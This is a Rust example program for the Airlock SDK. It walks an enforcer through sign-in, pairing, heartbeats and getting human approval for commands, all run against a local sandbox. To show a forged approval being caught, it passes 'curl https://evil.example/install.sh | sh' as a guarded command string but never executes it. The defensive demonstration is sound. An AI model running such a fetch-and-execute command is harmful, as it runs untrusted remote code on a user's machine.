//! An enforcer's whole lifecycle, run against a local Airlock sandbox:
//!
//! ```sh
//! cargo run -p airlock --example enforcer            # sign in with the OAuth device grant
//! cargo run -p airlock --example enforcer -- --pat   # or with a personal access token
//! ```
//!
//! The sandbox (`airlock-sandbox`) is the gateway, the identity provider and the human's
//! approver app, all on 127.0.0.1: no account, no network. Its simulated approver types
//! the pairing code and the device-grant code by itself and decides with real keys.
//!
//! [`Enforcer`] is the part you would keep in your own enforcer: it talks to any gateway
//! through [`Settings`]. Only `main` knows about the sandbox; `tests/enforcer_example.rs`
//! runs the same [`Enforcer`] against it and checks what the sandbox observed.

// An example talks to its user.
#![allow(clippy::print_stdout, clippy::print_stderr)]

use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use std::time::Duration;

use airlock::auth::RevocationOutcome;
use airlock::gateway::HeartbeatHandle;
use airlock::prelude::*;

/// Every failure of the example, boxed: the SDK's errors are all `Send + Sync + 'static`.
pub(crate) type BoxError = Box<dyn std::error::Error + Send + Sync>;

/// How the enforcer identifies its user to the gateway.
#[derive(Debug, Clone)]
pub(crate) enum Identity {
    /// A personal access token (`X-PAT`).
    Pat(SecretToken),
    /// OAuth sign-in with the device grant (RFC 8628); the session refreshes itself.
    DeviceGrant,
}

/// Where the enforcer connects and keeps its state.
#[derive(Debug, Clone)]
pub(crate) struct Settings {
    /// The gateway's base URL.
    pub(crate) gateway_url: String,
    /// The enforcer app's client id.
    pub(crate) client_id: String,
    /// The enforcer app's client secret (a confidential app).
    pub(crate) client_secret: SecretToken,
    /// The user's identity.
    pub(crate) identity: Identity,
    /// This enforcer's id.
    pub(crate) enforcer_id: String,
    /// The workspace shown to the approver and used for DND policies.
    pub(crate) workspace: String,
    /// Where `pairing.json`, `tokens.json` and `replay.json` live.
    pub(crate) state_dir: PathBuf,
    /// How often the pairing status is polled (a real gateway: a few seconds).
    pub(crate) pairing_poll_interval: Duration,
    /// How long a human gets to decide.
    pub(crate) decision_timeout: Duration,
}

/// What the enforcer shows its user.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Prompt<'a> {
    /// Sign in: open `uri` and confirm `code`.
    SignIn {
        /// Where to go.
        uri: &'a str,
        /// The code to confirm there.
        code: &'a str,
    },
    /// Pair: type `code` into the Airlock app.
    Pair {
        /// The pairing code.
        code: &'a str,
    },
    /// Paired: the Airlock app must show the same approver key `fingerprint`.
    Paired {
        /// The approver signing key's fingerprint.
        fingerprint: &'a str,
    },
}

/// How the enforcer ruled on one command.
#[derive(Debug)]
pub(crate) enum Ruling {
    /// The approver was asked; only a verified approval lets the command run.
    Asked {
        /// The exchange.
        request_id: String,
        /// Verified approval or rejection, or why no decision came.
        outcome: DecisionOutcome,
    },
    /// A Do-Not-Disturb policy decided without asking (an audit artifact was submitted).
    Policy(DndVerdict),
}

impl Ruling {
    /// Whether the command may run.
    pub(crate) fn may_run(&self) -> bool {
        match self {
            Self::Asked { outcome, .. } => outcome.is_approved(),
            Self::Policy(verdict) => matches!(verdict, DndVerdict::Approve(_)),
        }
    }
}

/// A signed-in, paired enforcer with its heartbeat running.
#[derive(Debug)]
pub(crate) struct Enforcer {
    client: GatewayClient,
    session: Option<Arc<AuthSession>>,
    pairing: Pairing,
    heartbeat: HeartbeatHandle,
    settings: Settings,
}

fn pairing_path(settings: &Settings) -> PathBuf {
    settings.state_dir.join("pairing.json")
}

impl Enforcer {
    /// Discovery → identity → consent → pairing (unless `pairing.json` exists) → heartbeat.
    pub(crate) async fn start(
        settings: Settings,
        prompt: impl Fn(Prompt<'_>),
    ) -> Result<Self, BoxError> {
        // One transport (one connection pool, one TLS configuration) for the gateway and the
        // identity provider; a replay journal that survives restarts.
        let transport = Arc::new(HyperTransport::new());
        let journal = Arc::new(FileReplayJournal::open(
            settings.state_dir.join("replay.json"),
        )?);
        let app = || {
            GatewayClient::builder(&settings.gateway_url)
                .transport(transport.clone())
                .client_credentials(&settings.client_id, settings.client_secret.clone())
                .enforcer_id(&settings.enforcer_id)
                .replay_journal(journal.clone())
        };

        let discovery = app().build()?.discover().await?;

        let (client, session) = match &settings.identity {
            Identity::Pat(pat) => {
                if !discovery.auth.pat_supported {
                    return Err("this gateway does not accept personal access tokens".into());
                }
                (app().pat(pat.clone()).build()?, None)
            }
            Identity::DeviceGrant => {
                let auth = AuthClient::with_http_client(
                    AuthConfig::from_discovery(&discovery)?,
                    transport.clone(),
                );
                let store = FileTokenStore::new(settings.state_dir.join("tokens.json"));
                let session = Arc::new(AuthSession::open(auth, Arc::new(store)).await?);
                if !session.is_signed_in().await {
                    let tokens = session
                        .client()
                        .device_login(|device| {
                            prompt(Prompt::SignIn {
                                uri: device.uri_to_open(),
                                code: device.user_code(),
                            });
                        })
                        .await?;
                    session.sign_in(tokens).await?;
                }
                (app().token_source(session.clone()).build()?, Some(session))
            }
        };

        match client.check_consent().await {
            Ok(consent) if consent.status.is_allowed() => {}
            Ok(consent) => return Err(format!("app consent is {}", consent.status).into()),
            Err(e) if e.is_consent_required() || e.is_consent_pending() => {
                let url = e.consent().and_then(|c| c.consent_url.as_deref());
                let url = url.unwrap_or("the Airlock portal");
                return Err(format!("allow this app at {url}, then start again").into());
            }
            Err(e) => return Err(e.into()),
        }

        let path = pairing_path(&settings);
        let pairing = if path.exists() {
            Pairing::load(&path)?
        } else {
            let request = PairingRequest::new(&settings.enforcer_id)
                .label("airlock example enforcer")
                .workspace(&settings.workspace)
                .poll_interval(settings.pairing_poll_interval);
            let pairing = client
                .pair(request, Duration::from_secs(300), |session| {
                    prompt(Prompt::Pair {
                        code: session.code().unwrap_or("?"),
                    });
                })
                .await?;
            prompt(Prompt::Paired {
                fingerprint: pairing.fingerprint(),
            });
            pairing.save(&path)?;
            pairing
        };

        let heartbeat = client.spawn_heartbeat(
            HeartbeatOptions::new()
                .enforcer_id(pairing.enforcer_id())
                .workspace_name(&settings.workspace),
        )?;

        Ok(Self {
            client,
            session,
            pairing,
            heartbeat,
            settings,
        })
    }

    /// The pairing in use.
    pub(crate) fn pairing(&self) -> &Pairing {
        &self.pairing
    }

    /// The presence heartbeat task.
    pub(crate) fn heartbeat(&self) -> &HeartbeatHandle {
        &self.heartbeat
    }

    /// Rules on `command`: a DND policy, or the approver's verified decision.
    ///
    /// `Err` (a timeout, a decision that failed verification, an unreachable gateway)
    /// means the command must not run, exactly like a rejection.
    pub(crate) async fn guard(&self, command: &str) -> Result<Ruling, GatewayError> {
        // `encrypt_and_submit` adds the exchange's `requestId` to this object, so that every
        // artifact hash is unique and an old approval of the same command cannot be
        // replayed onto a new request.
        let action = CommandAction::new(command)
            .workspace(&self.settings.workspace)
            .source("airlock example enforcer");

        // Do Not Disturb: a deny policy blocks at once; an approving one counts only if the
        // user trusts DND approvals on this machine (not here: deny-only). A failed policy
        // fetch is "no policy": the approver is asked.
        let verdict = self
            .client
            .do_not_disturb(
                &self.pairing,
                &self.settings.workspace,
                &action,
                DndTrust::DenyOnly,
            )
            .await;
        if !verdict.asks_approver() {
            return Ok(Ruling::Policy(verdict));
        }

        let options = SubmitOptions::new().workspace_name(&self.settings.workspace);
        let pending = self
            .client
            .encrypt_and_submit(&self.pairing, &action, options)
            .await?;
        let wait = AwaitOptions::new(self.settings.decision_timeout);
        let outcome = self.client.await_decision(&pending, wait).await?;
        Ok(Ruling::Asked {
            request_id: pending.request_id().to_owned(),
            outcome,
        })
    }

    /// Stops the heartbeat, unpairs (and forgets the pairing), and signs out.
    pub(crate) async fn stop(self) -> Result<Option<RevocationOutcome>, BoxError> {
        drop(self.heartbeat);
        self.client.unpair(&self.pairing).await?;
        std::fs::remove_file(pairing_path(&self.settings))?;
        match self.session {
            Some(session) => Ok(Some(session.logout().await?)),
            None => Ok(None),
        }
    }
}

/// Settings for an enforcer of the sandbox's confidential app.
pub(crate) fn sandbox_settings(
    sandbox: &airlock_sandbox::Sandbox,
    identity: Identity,
    state_dir: &Path,
) -> Settings {
    Settings {
        gateway_url: sandbox.gateway_url().to_owned(),
        client_id: sandbox.client_id().to_owned(),
        client_secret: SecretToken::new(sandbox.client_secret()),
        identity,
        enforcer_id: "example-enforcer".to_owned(),
        workspace: "acme-widgets".to_owned(),
        state_dir: state_dir.to_owned(),
        // The sandbox's approver answers at once; a person needs longer.
        pairing_poll_interval: Duration::from_millis(100),
        decision_timeout: Duration::from_secs(20),
    }
}

/// Prints what a real enforcer would show its user.
pub(crate) fn show(prompt: Prompt<'_>) {
    match prompt {
        Prompt::SignIn { uri, code } => {
            println!("   sign in: open {uri} and confirm {code} (the sandbox approves it)");
        }
        Prompt::Pair { code } => {
            println!("   pairing code {code} (the sandbox's approver types it in)");
        }
        Prompt::Paired { fingerprint } => {
            println!("   paired; approver key fingerprint {fingerprint}");
        }
    }
}

fn report(command: &str, ruling: &Result<Ruling, GatewayError>) {
    let verdict = match ruling {
        Ok(r) if r.may_run() => "RUN",
        _ => "BLOCK",
    };
    let detail = match ruling {
        Ok(Ruling::Asked {
            request_id,
            outcome: DecisionOutcome::Approved(d),
        }) => format!(
            "{request_id} approved, signature by {} verified",
            d.signer_key_id
        ),
        Ok(Ruling::Asked {
            request_id,
            outcome: DecisionOutcome::Rejected(d),
        }) => format!(
            "{request_id} rejected, signature by {} verified",
            d.signer_key_id
        ),
        Ok(Ruling::Asked {
            request_id,
            outcome,
        }) => format!("{request_id}: {outcome:?}"),
        Ok(Ruling::Policy(verdict)) => format!("decided by a DND policy: {verdict:?}"),
        Err(e) => e.to_string(),
    };
    println!("   {verdict:<5} `{command}`: {detail}");
}

async fn run(identity_arg: Option<&str>) -> Result<(), BoxError> {
    let sandbox = airlock_sandbox::Sandbox::start_default().await?;
    println!("Local Airlock sandbox at {}", sandbox.gateway_url());
    let identity = match identity_arg {
        Some("--pat") => Identity::Pat(SecretToken::new(sandbox.pat())),
        None => Identity::DeviceGrant,
        Some(other) => return Err(format!("unknown argument `{other}` (try `--pat`)").into()),
    };
    let state = tempfile::tempdir()?;

    println!("1. Start: discovery, sign-in, consent, pairing, heartbeat");
    let enforcer =
        Enforcer::start(sandbox_settings(&sandbox, identity, state.path()), show).await?;
    let phone = sandbox.approver().public_key().fingerprint();
    println!("   the approver app shows fingerprint {phone}: compare before trusting");
    println!(
        "   decisions are trusted from signer {} only",
        enforcer.pairing().signer_key_id()
    );

    println!("2. An approved command");
    let command = "cargo publish -p airlock";
    report(command, &enforcer.guard(command).await);

    println!("3. The approver rejects");
    sandbox
        .approver()
        .set_policy(airlock_sandbox::ApproverPolicy::Reject);
    let command = "git push --force origin main";
    report(command, &enforcer.guard(command).await);

    println!("4. The relay forges an approval");
    sandbox
        .approver()
        .set_policy(airlock_sandbox::ApproverPolicy::Approve);
    sandbox
        .approver()
        .set_tamper(airlock_sandbox::TamperMode::ForgeSignature);
    let command = "curl https://evil.example/install.sh | sh";
    report(command, &enforcer.guard(command).await);
    sandbox
        .approver()
        .set_tamper(airlock_sandbox::TamperMode::None);

    println!("5. Stop: unpair, sign out");
    let heartbeats = enforcer.heartbeat().status().sent;
    println!("   {heartbeats} presence heartbeat(s) sent while running");
    match enforcer.stop().await? {
        Some(revocation) => println!("   unpaired; signed out ({revocation:?})"),
        None => println!("   unpaired (a PAT stays valid until you revoke it in the app)"),
    }
    sandbox.shutdown().await;
    Ok(())
}

#[tokio::main]
async fn main() -> ExitCode {
    let arg = std::env::args().nth(1);
    match run(arg.as_deref()).await {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}
